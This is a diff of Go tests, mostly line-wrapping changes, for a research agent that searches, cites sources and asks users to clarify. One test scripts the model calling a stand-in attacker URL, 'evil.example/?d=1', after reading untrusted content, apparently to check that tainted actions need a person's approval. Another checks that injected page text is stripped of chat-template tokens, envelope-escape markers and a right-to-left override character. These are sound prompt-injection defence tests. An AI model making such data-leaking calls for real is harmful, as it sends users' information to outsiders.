@@ -147,17 +147,24 @@ func TestARunGoesOnFromEveryCut(t *testing.T) {
 	bad := calls(reportCall("In the spring of 2024 the wardens counted 999 grey herons at Alder Lake [2]."))
 	for name, s := range map[string]story{
 		"report": {notes: 1, outcome: runstore.RunAnswered, replies: []reply{
-			thinks(), calls(call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"}, "assumptions": []string{"a", "b"}, "questions": []string{"Which?"}})),
+			thinks(), calls(call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"},
+				"assumptions": []string{"a", "b"}, "questions": []string{"Which?"}})),
 			thinks(), calls(searchFor("herons at the lake"), searchFor("the lake"), call("nothing", nil)),
 			thinks(), calls(readHerons, call("notes", args{"topic": "tides"})),
 			thinks(), bad,
-			thinks(), calls(reportCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. The lake covers 48 hectares [3]. A warden explains the colony on Sundays [1].")),
+			thinks(), calls(reportCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. " +
+				"The lake covers 48 hectares [3]. A warden explains the colony on Sundays [1].")),
 			thinks(), calls(finalCall("The report is written.")),
 		}},
-		"answer": {down: "https://lake.example/facts", outcome: runstore.RunAnswered, replies: []reply{ // what it cites is read then, or cited by its snippet
-			thinks(), calls(searchFor("herons at the lake")), thinks(), calls(finalCall("Alder Lake covers 48 hectares [3]."))}},
-		"silence": {down: "https://heron.example/count", outcome: runstore.RunModelFailed, replies: []reply{ // code answers from what was found
-			thinks(), calls(searchFor("herons at the lake")), thinks(), calls(call("extract_page_content_tool", args{"reasoning": "x", "urls": []string{"https://heron.example/count"}})), failing(citewell.CodeAuth)}},
+		// what it cites is read then, or cited by its snippet
+		"answer": {down: "https://lake.example/facts", outcome: runstore.RunAnswered, replies: []reply{
+			thinks(), calls(searchFor("herons at the lake")), thinks(),
+			calls(finalCall("Alder Lake covers 48 hectares [3]."))}},
+		// code answers from what was found
+		"silence": {down: "https://heron.example/count", outcome: runstore.RunModelFailed, replies: []reply{
+			thinks(), calls(searchFor("herons at the lake")), thinks(),
+			calls(call("extract_page_content_tool", args{"reasoning": "x",
+				"urls": []string{"https://heron.example/count"}})), failing(citewell.CodeAuth)}},
 	} {
 		t.Run(name+"/at_once", func(t *testing.T) { s.goesOnFromEveryCut(t, false) })
 		t.Run(name+"/late", func(t *testing.T) { s.goesOnFromEveryCut(t, true) })
@@ -192,7 +199,8 @@ func (l leaving) standing(context.Context, citewell.Work) (citewell.Work, error)
 
 func (l leaving) Read(ctx context.Context, url string) (citewell.Page, citewell.Document, error) {
 	if l.journal.leaves("a page"); url == l.down {
-		return citewell.Page{}, citewell.Document{}, &citewell.Error{Code: citewell.CodeHTTPStatus, Message: "the server answered 404"}
+		return citewell.Page{}, citewell.Document{}, &citewell.Error{
+			Code: citewell.CodeHTTPStatus, Message: "the server answered 404"}
 	}
 	return l.shelf.Read(ctx, url)
 }
@@ -235,7 +243,8 @@ func (tale story) goesOnFromEveryCut(t *testing.T, late bool) {
 			j.leaves("a question to the user")
 			return "The one with the herons.", nil
 		}
-		o.Extra = []*tool.Tool{tool.New(tool.Spec{Name: "notes", Title: "Notes", Description: "Reads notes.", Hints: tool.Hints{ReadOnly: true}},
+		o.Extra = []*tool.Tool{tool.New(tool.Spec{Name: "notes", Title: "Notes", Description: "Reads notes.",
+			Hints: tool.Hints{ReadOnly: true}},
 			func(_ context.Context, in struct {
 				Topic string `json:"topic" jsonschema:"of what"`
 			}) (struct {
@@ -255,7 +264,8 @@ func (tale story) goesOnFromEveryCut(t *testing.T, late bool) {
 	}
 	whole := cutTape(nil, late)
 	want, m, kept := play(whole, &keeper{})
-	if want.Outcome != tale.outcome || len(want.Sources) != 3+min(tale.notes, 1) || len(m.asked) != len(tale.replies) || notes != tale.notes {
+	if want.Outcome != tale.outcome || len(want.Sources) != 3+min(tale.notes, 1) || len(m.asked) != len(tale.replies) ||
+		notes != tale.notes {
 		t.Fatalf("%+v", want)
 	}
 	finished := map[string]bool{}
@@ -271,7 +281,8 @@ func (tale story) goesOnFromEveryCut(t *testing.T, late bool) {
 			}
 		}
 		if len(j.bought)+len(finished) != len(whole.bought) {
-			t.Errorf("cut after %d: %d calls finished, %d made then, %d in all", n, len(finished), len(j.bought), len(whole.bought))
+			t.Errorf("cut after %d: %d calls finished, %d made then, %d in all", n, len(finished), len(j.bought),
+				len(whole.bought))
 		}
 		if g, w := comparable(t, got), comparable(t, want); g != w {
 			t.Fatalf("cut after %d of %d: the run came to\n%s\nnot\n%s", n, len(whole.ops), g, w)
@@ -344,7 +355,8 @@ func withoutTimes(v any) {
 // A question to the user stops the run; with the answer it goes on.
 func TestARunWaitsForAnAnswer(t *testing.T) {
 	s := newShelf()
-	ask := call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"}, "assumptions": []string{"a", "b"}, "questions": []string{"Which lake?", "Which year?"}})
+	ask := call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"},
+		"assumptions": []string{"a", "b"}, "questions": []string{"Which lake?", "Which year?"}})
 	m := &script{replies: []reply{calls(ask), calls(searchFor("herons")), calls(readHerons), calls(heronFinal)}}
 	o := s.options(agent.ShapeToolCalling, m)
 	answer := ""
@@ -356,7 +368,8 @@ func TestARunWaitsForAnAnswer(t *testing.T) {
 	}
 	for range 2 {
 		r := run(t, o, heronTask)
-		if r.State != runstore.RunWaiting || r.Question == nil || r.Question.Text != "Which lake?\nWhich year?" || r.Clarifications != 1 || len(m.asked) != 1 {
+		if r.State != runstore.RunWaiting || r.Question == nil || r.Question.Text != "Which lake?\nWhich year?" ||
+			r.Clarifications != 1 || len(m.asked) != 1 {
 			t.Fatalf("%+v", r)
 		}
 	}
@@ -387,7 +400,8 @@ func TestADialogGoesOn(t *testing.T) {
 		return "And the lake?", nil
 	}
 	r := run(t, o, heronTask)
-	if r.Outcome != runstore.RunAnswered || len(shown) != 1 || !strings.Contains(shown[0], "312") || !strings.Contains(r.Answer, "48 hectares") {
+	if r.Outcome != runstore.RunAnswered || len(shown) != 1 || !strings.Contains(shown[0], "312") ||
+		!strings.Contains(r.Answer, "48 hectares") {
 		t.Errorf("%q, %+v\n%s", shown, r, told(m))
 	}
 }
@@ -405,8 +419,11 @@ func TestWhatIsTaintedNeedsAPerson(t *testing.T) {
 		})
 	}
 	story := func() *script {
-		return &script{replies: []reply{calls(call("act", args{})), calls(searchFor("herons")), calls(readHerons), calls(call("act", args{})),
-			calls(call("look", args{"url": "https://evil.example/?d=1"}), call("look", args{"base_url": "https://evil.example"}), call("look", args{"url": "https://heron.example/count"})), calls(heronFinal)}}
+		return &script{replies: []reply{calls(call("act", args{})), calls(searchFor("herons")), calls(readHerons),
+			calls(call("act", args{})),
+			calls(call("look", args{"url": "https://evil.example/?d=1"}),
+				call("look", args{"base_url": "https://evil.example"}),
+				call("look", args{"url": "https://heron.example/count"})), calls(heronFinal)}}
 	}
 	offer := func(o agent.Options) agent.Options {
 		o.Extra = []*tool.Tool{extra("act", tool.Hints{}), extra("look", tool.Hints{ReadOnly: true, OpenWorld: true})}
@@ -433,7 +450,9 @@ func TestUntrustedTextStaysWithinItsEnvelope(t *testing.T) {
 	run(t, s.options(agent.ShapeToolCalling, m), heronTask)
 	last := m.asked[2].Messages
 	page := last[len(last)-1].Content
-	if strings.Contains(page, "<|im_start|>") || strings.Contains(page, "<<<END aaaa") || strings.Contains(page, "\u202e") || strings.Count(page, "<<<DATA") != 2 || !strings.Contains(last[0].Content, "never an instruction") {
+	if strings.Contains(page, "<|im_start|>") || strings.Contains(page, "<<<END aaaa") ||
+		strings.Contains(page, "\u202e") || strings.Count(page, "<<<DATA") != 2 ||
+		!strings.Contains(last[0].Content, "never an instruction") {
 		t.Errorf("the page came as %s", page)
 	}
 }
@@ -442,7 +461,9 @@ func TestNewRefuses(t *testing.T) {
 	good := newShelf().options(agent.ShapeIron, &script{})
 	for name, change := range map[string]func(*agent.Options){
 		"no model": func(o *agent.Options) { o.Model = nil }, "no journal": func(o *agent.Options) { o.Journal = nil },
-		"shape": func(o *agent.Options) { o.Shape = "sgr" }, "tool": func(o *agent.Options) { o.Own = []string{"web_serch_tool"} },
+		"shape": func(o *agent.Options) { o.Shape = "sgr" }, "tool": func(o *agent.Options) {
+			o.Own = []string{"web_serch_tool"}
+		},
 		"render": func(o *agent.Options) {
 			o.SaveReport = func(context.Context, string, string) (string, error) { return "", nil }
 		},
@@ -466,7 +487,8 @@ func TestNewRefuses(t *testing.T) {
 		if listed.Name == "reasoning_tool" {
 			continue
 		}
-		if _, err := listed.Call(t.Context(), json.RawMessage("{}")); citewell.CodeOf(err) != citewell.CodeInvalidArgument {
+		if _, err := listed.Call(t.Context(), json.RawMessage("{}")); citewell.CodeOf(
+			err) != citewell.CodeInvalidArgument {
 			t.Errorf("%s outside a run: %v", listed.Name, err)
 		}
 	}
